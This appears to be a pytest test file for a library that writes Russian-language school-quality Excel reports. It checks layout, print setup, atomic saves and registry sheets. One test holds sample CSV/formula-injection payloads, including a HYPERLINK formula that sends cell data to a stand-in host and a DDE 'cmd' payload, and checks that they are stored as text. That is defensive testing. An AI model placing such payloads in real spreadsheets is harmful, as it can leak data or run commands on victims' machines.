"""Excel workbooks: Russian headers, frozen header, autofilter, fills, atomic writes."""
import datetime as dt

import openpyxl
import pandas as pd

from qualitylib.batch.excel import CREATOR, FLAG_FILL, write_workbook


def test_sheet_layout_and_fills(tmp_path):
    frame = pd.DataFrame({"school_id": ["A", "B"], "shnor": [1, 0], "reasons": ["длинный текст " * 10, ""]})
    path = write_workbook(tmp_path / "r.xlsx", [("ШНОР", frame, ("shnor",))])
    sheet = openpyxl.load_workbook(path)["ШНОР"]
    assert [c.value for c in sheet[1]] == ["Код ОО", "ШНОР", "Основания"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:C3"
    assert sheet["B2"].fill.start_color.rgb.endswith(FLAG_FILL.start_color.rgb[-6:])
    assert sheet["B3"].fill.fill_type is None
    assert sheet.column_dimensions["C"].width == 60
    assert sheet["C2"].alignment.wrap_text


def test_document_properties_carry_the_true_date(tmp_path):
    frame = pd.DataFrame({"school_id": ["A"], "risk": [1]})
    book = openpyxl.load_workbook(write_workbook(tmp_path / "a.xlsx", [("Риск", frame, ("risk",))]))
    assert book.properties.creator == CREATOR
    assert book.properties.created.date() == dt.date.today()


def test_sheets_are_ready_to_print(tmp_path):
    frame = pd.DataFrame({"school_id": ["A", "B"], "school_name": ["МБОУ «Средняя общеобразовательная школа № 1 "
                                                                    "имени героя»", "Школа № 2"],
                          "criterion_1": [1, 0], "share": [45.0, 7.25], "participants": [20, 31]})
    sheet = openpyxl.load_workbook(write_workbook(tmp_path / "p.xlsx", [("ШНОР", frame, ("criterion_1",))],
                                                  caption="Полысаево, 2026"))["ШНОР"]
    # flags in words, the «да» filled; numbers with formats, the share as a percentage
    assert [sheet["C2"].value, sheet["C3"].value] == ["да", "нет"]
    assert sheet["C2"].fill.start_color.rgb.endswith(FLAG_FILL.start_color.rgb[-6:])
    assert sheet["D2"].value == 45.0 and sheet["D2"].number_format == '0.0" %"'
    assert sheet["E2"].number_format == "0"
    assert sheet["B2"].alignment.wrap_text and not sheet["B3"].value.startswith("МБОУ")
    # A4 landscape, fitted to the width, header repeated, caption and page numbers
    assert sheet.page_setup.orientation == "landscape" and int(sheet.page_setup.paperSize) == 9  # A4
    assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToWidth == 1
    assert sheet.page_setup.fitToHeight == 0 and sheet.print_title_rows == "$1:$1"
    assert sheet.oddHeader.center.text == "ШНОР — Полысаево, 2026" and sheet.oddFooter.right.text == "Стр. &P из &N"


def test_failed_write_keeps_the_old_file(tmp_path, monkeypatch):
    path = tmp_path / "r.xlsx"
    path.write_bytes(b"old")

    def boom(self, filename):
        with open(filename, "wb") as fh:
            fh.write(b"half")
        raise OSError("диск заполнен")

    monkeypatch.setattr(openpyxl.Workbook, "save", boom)
    try:
        write_workbook(path, [("Лист", pd.DataFrame({"a": [1]}), ())])
    except OSError:
        pass
    assert path.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == ["r.xlsx"]


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Открыть")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
            "+1+1", "\t=1+1", "=1+1"]


def test_text_starting_like_a_formula_is_written_as_text(tmp_path):
    from qualitylib.batch.excel import write_registry
    from qualitylib.data.params import load_params

    frame = pd.DataFrame({"school_name": FORMULAS, "participants": [-5, 0, 3, 4, 5, 6],
                          "mean_score": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0]})
    path = write_workbook(tmp_path / "book.xlsx", [("Лист", frame, ())])
    sheet = openpyxl.load_workbook(path)["Лист"]
    rows = list(sheet.iter_rows(min_row=2))
    assert [r[0].value for r in rows] == FORMULAS
    assert all(r[0].data_type == "s" for r in rows)
    assert [r[1].value for r in rows] == [-5, 0, 3, 4, 5, 6] and rows[0][1].data_type == "n"
    assert rows[0][2].value == -1.5 and rows[0][2].data_type == "n"

    # the registry: a school name and a municipality name (the region registry's Сводка and Параметры)
    params = load_params()
    shnor = pd.DataFrame({"school_id": ["S1"], "school_name": ["=1+1"], "municipality": ["@М"],
                          "criterion_1": [1], "criterion_2": [0], "low_results": [1], "low_results_prev": [1],
                          "reasons": ["-2+3"], "shnor": [1]})
    empty = {"risk": [], "pairs": []}
    from qualitylib.batch.excel import REGISTRY_COLUMNS
    risk = pd.DataFrame({c: empty["risk"] for c in REGISTRY_COLUMNS["risk"] + ["risk"]})
    pairs = pd.DataFrame({c: empty["pairs"] for c in REGISTRY_COLUMNS["pairs"]})
    book = openpyxl.load_workbook(write_registry(tmp_path / "registry.xlsx", shnor, risk, pairs, params,
                                                 params_by_municipality={"=HYPERLINK(\"http://evil.example\")": params}))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert {"=1+1", "@М", "-2+3", "=HYPERLINK(\"http://evil.example\")"} <= values


def test_registry_has_a_shnsu_sheet_listing_the_shnsu_only(tmp_path):
    from qualitylib.batch.excel import REGISTRY_COLUMNS, write_registry
    from qualitylib.data.params import load_params

    shnor = pd.DataFrame({c: [] for c in REGISTRY_COLUMNS["shnor"] + ["shnor"]})
    risk = pd.DataFrame({c: [] for c in REGISTRY_COLUMNS["risk"] + ["risk"]})
    pairs = pd.DataFrame({c: [] for c in REGISTRY_COLUMNS["pairs"]})
    social = pd.DataFrame({"school_id": ["S1", "S2", "S3"], "school_name": ["Школа 1", "Школа 2", "Школа 3"],
                           "municipality": ["М"] * 3, "social_index": [61.5, 88.0, 70.2], "shnsu": [1, 0, 1],
                           "share": [30.0, 5.0, 12.0], "expected_share": [25.0, 6.0, 14.0],
                           "difference": [5.0, -1.0, -2.0], "reading": ["хуже ожидаемого", "как ожидалось",
                                                                        "как ожидалось"]})
    path = write_registry(tmp_path / "registry.xlsx", shnor, risk, pairs, load_params(), social=social)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames[:3] == ["ШНОР", "Риск", "ШНСУ"]
    rows = list(book["ШНСУ"].iter_rows(min_row=2, values_only=True))
    assert [r[1] for r in rows] == ["Школа 1", "Школа 3"]
    without = openpyxl.load_workbook(write_registry(tmp_path / "r2.xlsx", shnor, risk, pairs, load_params()))
    assert "ШНСУ" not in without.sheetnames
